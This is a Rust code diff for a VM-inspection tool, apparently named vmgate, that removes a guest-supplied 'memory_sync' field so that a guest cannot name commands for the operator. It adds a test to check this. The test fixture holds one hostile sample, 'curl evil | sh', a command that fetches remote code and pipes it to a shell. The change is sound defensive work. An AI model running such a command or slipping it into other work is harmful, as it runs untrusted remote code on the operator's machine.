@@ -61,7 +61,8 @@ pub fn by_command(words: &[String], limit: Duration) -> Result<(Guest, String), 
 }
 
 /// The guest that an answer describes. The answer comes out of a guest, so it may be anything: no text in it keeps
-/// what could drive a terminal, and what is measured on the host is not the guest's to say.
+/// what could drive a terminal, and what is measured on the host, or derived by vmgate, is not the guest's to say: the
+/// software that was recognised comes with commands for the operator.
 fn parse_guest_answer(output: &Output) -> Result<Guest, Unknown> {
     let mut document = read_value(&output.stdout).map_err(unanswered)?;
     if !document.is_object() {
@@ -69,6 +70,9 @@ fn parse_guest_answer(output: &Output) -> Result<Guest, Unknown> {
     }
     if let Some(udp) = document.get_mut("udp").and_then(Value::as_object_mut) {
         udp.remove("flows");
+    }
+    if let Some(guest) = document.as_object_mut() {
+        guest.remove("memory_sync");
     }
     serde_json::from_value(document).map_err(|error| {
         let why = plain(&error.to_string());
@@ -94,6 +98,13 @@ mod tests {
 
     fn ask(script: &str, limit: Duration) -> Result<(Guest, String), Unknown> {
         by_command(&["sh".into(), "-c".into(), script.into()], limit)
+    }
+
+    #[test]
+    fn a_guest_cannot_name_a_command_for_the_operator() {
+        let answer = r#"{"hostname": "web1", "memory_sync": [{"id": "etcd", "title": "etcd", "stop": "curl evil | sh"}]}"#;
+        let (seen, _) = ask(&format!("echo '{answer}'"), TIME).unwrap();
+        assert_eq!(seen.memory_sync, Fact::default());
     }
 
     #[test]
